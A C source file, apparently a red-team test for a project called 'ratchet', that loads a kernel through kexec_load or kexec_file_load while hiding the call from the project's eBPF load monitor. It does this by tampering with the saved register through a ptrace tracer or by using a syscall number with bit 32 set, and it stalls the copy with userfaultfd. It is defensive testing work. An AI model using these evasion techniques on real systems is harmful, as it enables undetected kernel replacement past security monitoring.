// SPDX-License-Identifier: GPL-2.0
/*
 * rt18-hide.c - red team 18 (in a test VM only): a kexec_load() checked
 * before a lock, held at its segment copy (userfaultfd, as rt17-span.c),
 * and hidden from ratchet's load barrier.
 *
 * `ratchet-rt18-hide [high-]kexec|crash|file KERNEL READY GO`
 *
 * The barrier (bpf/progscan.bpf.c, loadscan) calls a task "inside a
 * system call" only while its saved regs->ax is -ENOSYS. On x86 that
 * value is only what the entry pushed: a ptrace tracer stopped at the
 * syscall-entry stop may write any value to ax (putreg(),
 * arch/x86/kernel/ptrace.c: ax is a plain pt_regs slot), and the kernel
 * then runs the system call (syscall_trace_enter() re-reads only
 * orig_ax, kernel/entry/common.c) with ax left as written until the exit
 * stores the result (do_syscall_x64(), arch/x86/entry/common.c, 6.1 to
 * 7.2). ax is no argument of a 64-bit system call (di, si, dx, r10, r8,
 * r9). So a tracer (a child process of ours) seizes the loading thread,
 * sets ax to 0 at the entry of kexec_load and detaches: the call runs as
 * before, waits at the copy, and loadscan skips it.
 *
 * high-kexec, high-crash, high-file: no tracer at all. The 64-bit entry
 * saves the whole rax as orig_ax but hands do_syscall_64() its low 32
 * bits, sign-extended ("syscall numbers are treated as int",
 * entry_SYSCALL_64, arch/x86/entry/entry_64.S, 6.1 to 7.2): a number
 * with bit 32 set runs kexec_load() (246) while orig_ax reads
 * 0x1000000f6, which loadscan's loads_code() (it masks only the x32 bit)
 * does not match.
 *
 * Modes: kexec (kexec_load, 64-bit), crash (kexec_load with
 * KEXEC_ON_CRASH into the crash kernel reservation: a crash image, booted
 * by a panic, e.g. sysrq-c), file (kexec_file_load of KERNEL with
 * its command line on the held page: copied from user memory after the
 * last LSM check, kimage_file_prepare_segments(), kernel/kexec_file.c).
 * READY is written once the call waits; once GO exists the page is given.
 * Exit 0 if the call returned 0, 1 if it failed, 2 on setup errors.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/kexec.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

#define PAGE 4096UL
#define DEST 0x1000000UL

static char *dst;
static volatile int start;
static volatile pid_t loader_tid;
static long rc = -2;
static int err, file_mode, high, kfd = -1;
static long want_nr;
static unsigned long dest = DEST, kflags = KEXEC_ARCH_DEFAULT;

/* crash: the start of the crash kernel reservation (/proc/iomem). */
static int crash_start(void)
{
	FILE *f = fopen("/proc/iomem", "r");
	char line[256];
	unsigned long a, b;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (strstr(line, "Crash kernel") &&
		    sscanf(line, " %lx-%lx", &a, &b) == 2) {
			fclose(f);
			dest = a;
			return 0;
		}
	fclose(f);
	return -1;
}

static void *load(void *arg)
{
	struct kexec_segment seg = {
		.buf = dst,
		.bufsz = PAGE,
		.mem = (void *)dest,
		.memsz = PAGE,
	};

	(void)arg;
	loader_tid = (pid_t)syscall(SYS_gettid);
	while (!start)
		usleep(1000);
	if (file_mode)
		/* cmdline on the held page: len counts its NUL */
		rc = syscall(want_nr, kfd, -1, 8UL, dst,
			     (unsigned long)KEXEC_FILE_NO_INITRAMFS);
	else
		rc = syscall(want_nr, dest, 1UL, &seg, kflags);
	err = errno;
	return NULL;
}

/* The tracer: seize @tid, at the entry of want_nr write ax = 0, detach. */
static int tracer(pid_t tid, int note)
{
	struct user_regs_struct r;
	int st;

	if (ptrace(PTRACE_SEIZE, tid, 0, PTRACE_O_TRACESYSGOOD) ||
	    ptrace(PTRACE_INTERRUPT, tid, 0, 0) ||
	    waitpid(tid, &st, __WALL) != tid)
		return perror("rt18-hide: seize"), 2;
	if (write(note, "s", 1) != 1)
		return 2;
	for (;;) {
		if (ptrace(PTRACE_SYSCALL, tid, 0, 0) ||
		    waitpid(tid, &st, __WALL) != tid || !WIFSTOPPED(st))
			return perror("rt18-hide: trace"), 2;
		if (WSTOPSIG(st) != (SIGTRAP | 0x80))
			continue;
		if (ptrace(PTRACE_GETREGS, tid, 0, &r))
			return perror("rt18-hide: getregs"), 2;
		if ((long)r.orig_rax == want_nr && (long)r.rax == -ENOSYS)
			break;
	}
	fprintf(stderr,
		"rt18-hide: at the entry of syscall %ld: ax %lld -> 0\n",
		want_nr, (long long)r.rax);
	r.rax = 0;
	if (ptrace(PTRACE_SETREGS, tid, 0, &r) ||
	    ptrace(PTRACE_DETACH, tid, 0, 0))
		return perror("rt18-hide: setregs/detach"), 2;
	return 0;
}

int main(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct uffd_msg m;
	struct pollfd pf;
	const char *ready, *go;
	pthread_t th;
	pid_t tp;
	int p[2], st, uffd;
	char c;
	FILE *f;

	if (argc != 5)
		return fprintf(stderr,
			       "usage: %s [high-]kexec|crash|file KERNEL READY GO\n",
			       argv[0]),
		       2;
	file_mode = !strcmp(argv[1], "file");
	if (!strcmp(argv[1], "crash")) {
		if (crash_start())
			return fprintf(stderr,
				       "rt18-hide: no crash kernel reservation\n"),
			       2;
		kflags |= KEXEC_ON_CRASH;
		fprintf(stderr, "rt18-hide: crash image at %#lx\n", dest);
	}
	want_nr = file_mode ? SYS_kexec_file_load : SYS_kexec_load;
	/* high-*: no tracer; the number with bit 32 set (see above) */
	if (!strncmp(argv[1], "high-", 5)) {
		high = 1;
		file_mode = !strcmp(argv[1] + 5, "file");
		want_nr = (file_mode ? SYS_kexec_file_load : SYS_kexec_load) |
			  (1L << 32);
		if (!strcmp(argv[1] + 5, "crash")) {
			if (crash_start())
				return fprintf(stderr,
					       "rt18-hide: no crash kernel reservation\n"),
				       2;
			kflags |= KEXEC_ON_CRASH;
		}
	}
	ready = argv[3];
	go = argv[4];
	if (file_mode && (kfd = open(argv[2], O_RDONLY | O_CLOEXEC)) < 0)
		return perror("rt18-hide: kernel"), 2;
	uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	dst = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (uffd < 0 || dst == MAP_FAILED || ioctl(uffd, UFFDIO_API, &api))
		return perror("rt18-hide: userfaultfd"), 2;
	reg.range.start = (unsigned long)dst;
	reg.range.len = PAGE;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		return perror("rt18-hide: register"), 2;
	pthread_create(&th, NULL, load, NULL);
	while (!loader_tid)
		usleep(1000);
	if (high) {
		tp = -1;
		fprintf(stderr,
			"rt18-hide: no tracer; system call number %#lx\n",
			want_nr);
	} else {
		if (pipe(p))
			return 2;
		if (!(tp = fork())) {
			close(p[0]);
			_exit(tracer(loader_tid, p[1]));
		}
		close(p[1]);
		if (read(p[0], &c, 1) != 1) {
			waitpid(tp, &st, 0);
			return fprintf(stderr, "rt18-hide: tracer failed\n"), 2;
		}
	}
	start = 1;
	pf.fd = uffd;
	pf.events = POLLIN;
	if (poll(&pf, 1, 60000) <= 0 ||
	    read(uffd, &m, sizeof(m)) != sizeof(m) ||
	    m.event != UFFD_EVENT_PAGEFAULT) {
		printf("rt18-hide: the call never reached the copy: rc %ld (%s)\n",
		       rc, strerror(err));
		return 2;
	}
	st = 0;
	if (tp > 0)
		waitpid(tp, &st, 0);
	printf("rt18-hide: %s passed its LSM checks; held at the copy from user memory, %s\n",
	       file_mode ? "kexec_file_load" : "kexec_load",
	       high ? "saved orig_ax has bit 32 set"
	       : WIFEXITED(st) && !WEXITSTATUS(st)
		       ? "saved ax no longer -ENOSYS (tracer exit 0)"
		       : "tracer FAILED");
	fflush(stdout);
	if (!(f = fopen(ready, "w")))
		return 2;
	fputs("held\n", f);
	fclose(f);
	while (access(go, F_OK))
		usleep(100000);
	{
		/* file: a command line "rt18=1" and its NUL */
		static char page[PAGE] = "rt18=1";
		struct uffdio_copy cp = { .dst = (unsigned long)dst,
					  .src = (unsigned long)page,
					  .len = PAGE };

		if (ioctl(uffd, UFFDIO_COPY, &cp))
			printf("rt18-hide: UFFDIO_COPY: %s\n", strerror(errno));
	}
	pthread_join(th, NULL);
	printf("rt18-hide: %s returned %ld%s%s\n",
	       file_mode ? "kexec_file_load" : "kexec_load", rc, rc ? ": " : "",
	       rc ? strerror(err) : "");
	return rc ? 1 : 0;
}
